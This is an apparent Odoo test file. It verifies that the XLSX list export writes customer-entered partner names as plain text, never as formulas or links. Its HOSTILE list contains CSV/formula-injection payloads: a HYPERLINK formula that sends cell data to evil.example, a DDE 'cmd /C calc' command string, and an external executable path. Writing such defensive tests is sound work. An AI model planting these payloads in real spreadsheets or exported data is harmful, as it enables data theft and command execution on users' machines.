"""Odoo's own Export of a list (Favorites › Export, .xlsx) writes what customers
typed (names from WhatsApp profiles, portal forms, the order API) as texts: no
formula, no array formula, no link to a web page or a file."""

import io
import json

import openpyxl

from odoo import http
from odoo.tests import HttpCase, new_test_user, tagged

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A3,"Klik")',
    "=cmd|' /C calc'!A0",
    "{=SUM(1+1)}",
    "external:c:\\evil.exe",
    "http://evil.example/x",
    "mailto:evil@example.com",
    "+62 812 3456",
    "-1+1",
    "@SUM(1)",
)


@tagged("post_install", "-at_install")
class TestListExport(HttpCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        new_test_user(
            cls.env,
            "roms_export_cs",
            groups="roms_crm.group_roms_cs,base.group_allow_export",
        )
        cls.partners = cls.env["res.partner"].create(
            [
                {"name": name, "comment": name, "roms_category": "lead"}
                for name in HOSTILE
            ]
        )

    def _export(self, groupby=()):
        data = {
            "model": "res.partner",
            "fields": [
                {"name": "name", "label": "Name", "type": "char"},
                {"name": "comment", "label": "Notes", "type": "html"},
            ],
            "ids": self.partners.ids,
            "domain": [("id", "in", self.partners.ids)],
            "groupby": list(groupby),
            "context": {},
            "import_compat": False,
        }
        response = self.url_open(
            "/web/export/xlsx",
            data={
                "data": json.dumps(data),
                "csrf_token": http.Request.csrf_token(self),
            },
        )
        self.assertEqual(response.status_code, 200, response.text[:500])
        return openpyxl.load_workbook(io.BytesIO(response.content)).active

    def assert_texts(self, sheet):
        values = set()
        for row in sheet.iter_rows():
            for cell in row:
                self.assertNotEqual(cell.data_type, "f", (cell.coordinate, cell.value))
                self.assertIsNone(cell.hyperlink, cell.coordinate)
                values.add(cell.value)
        return values

    def test_export_writes_texts_as_texts(self):
        self.authenticate("roms_export_cs", "roms_export_cs")
        values = self.assert_texts(self._export())
        self.assertLessEqual(set(HOSTILE), values)

    def test_grouped_export_writes_texts_as_texts(self):
        self.authenticate("roms_export_cs", "roms_export_cs")
        values = self.assert_texts(self._export(groupby=["name"]))
        for name in HOSTILE:
            self.assertIn(name, values)
            self.assertIn(f"{name} (1)", values)
